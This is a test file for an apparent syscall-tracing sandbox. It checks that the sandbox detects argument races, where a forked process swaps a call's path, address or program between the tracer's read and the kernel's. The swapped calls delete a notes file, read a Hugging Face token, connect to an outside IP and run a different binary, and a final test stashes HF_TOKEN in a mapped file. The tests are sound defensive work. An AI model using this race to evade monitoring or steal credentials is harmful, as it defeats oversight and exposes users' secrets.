import { describe, expect, it } from 'vitest';
import { dynamicFindings, running } from './support.js';

/** Another process changes the words of a call for ten seconds, so that tracer and kernel read different ones. */
const race = (shown: string, meant: string, act: string): string => `
import ctypes, mmap, os, time
C = ctypes.CDLL(None)
page = mmap.mmap(-1, 4096)
address = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(page)))
shown, meant = ${shown}, ${meant}
page[:len(shown)] = shown
child = os.fork()
if child == 0:
  while True:
    page[:len(shown)] = meant
    for _ in range(40): pass
    page[:len(shown)] = shown
    for _ in range(60): pass
end = time.monotonic() + 10
while time.monotonic() < end:
  ${act}
os.kill(child, 9)
os.waitpid(child, 0)
`;

const path = (meant: string): string => `b"/tmp/${'a'.repeat(meant.length - 5)}\\0"`;
const NOTES = '/home/model/Documents/notes.txt';
const TOKEN = '/home/model/.cache/huggingface/token';
const address = (ip: string, port: number): string =>
  `b"\\2\\0" + (${port}).to_bytes(2, "big") + bytes([${ip.replaceAll('.', ', ')}]) + bytes(8)`;

describe('words of a call that change while it is made', () => {
  it.each([
    ['unlink', path(NOTES), `b"${NOTES}\\0"`, 'C.unlink(address)'],
    ['openat', path(TOKEN), `b"${TOKEN}\\0"`, 'f = C.openat(-100, address, 0); f < 0 or os.close(f)'],
    ['rename', path(NOTES), `b"${NOTES}\\0"`, 'C.rename(address, b"/tmp/b")'],
    [
      'connect',
      address('127.0.0.1', 53),
      address('203.0.113.7', 80),
      's = C.socket(2, 1, 0); C.connect(s, address, 16); os.close(s)',
    ],
    [
      'execve',
      'b"/usr/bin/uname\\0"',
      'b"/usr/bin/touch\\0"',
      'os.fork() or (C.execve(address, (ctypes.c_char_p * 3)(b"uname", b"-p", None), (ctypes.c_char_p * 1)(None)), os._exit(1)); os.wait()',
    ],
  ])('of %s are never clean', async (name, shown, meant, act) => {
    const report = await running(`race-${name}`, race(shown, meant, act), { settings: { timeout: 90, settle: 3 } });
    expect(report.verdict).not.toBe('clean');
    // A program's own text runs it: what counts is what it does.
    const own = dynamicFindings(report).filter(({ rule, severity }) => rule !== 'DYN-PY-CODE' && severity !== 'info');
    expect(own).not.toEqual([]);
  });
});

it('what lies in a mapped file in the end is seen, though no call wrote it', async () => {
  const report = await running(
    'mapped',
    'import mmap, os\nf = open("/tmp/.c", "w+b")\nf.truncate(4096)\nm = mmap.mmap(f.fileno(), 4096)\nm[:37] = os.environ["HF_TOKEN"].encode()\nm.close()',
  );
  expect(dynamicFindings(report).map(({ rule }) => rule)).toContain('DYN-THEFT-PROOF');
  expect(report.reasons.join(' ')).not.toContain('inotify');
});
